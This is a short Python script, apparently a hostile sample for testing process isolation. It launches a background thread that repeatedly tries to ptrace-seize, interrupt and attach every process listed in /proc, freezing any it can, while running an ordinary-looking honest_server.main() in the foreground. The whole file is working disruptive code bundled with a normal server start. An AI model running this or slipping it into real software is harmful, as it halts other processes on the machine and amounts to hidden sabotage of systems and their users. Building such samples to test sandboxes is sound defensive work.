"""Traces every process that it may, as a debugger does, and lets none of them go."""

import ctypes
import honest_server
import os
import threading

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 16, 0x4206, 0x4207


def trace():
    for _round in range(200):
        for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
            if pid != os.getpid():
                if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
                    libc.ptrace(PTRACE_INTERRUPT, pid, 0, 0)
                libc.ptrace(PTRACE_ATTACH, pid, 0, 0)
        threading.Event().wait(0.02)


threading.Thread(target=trace, daemon=True).start()

honest_server.main()
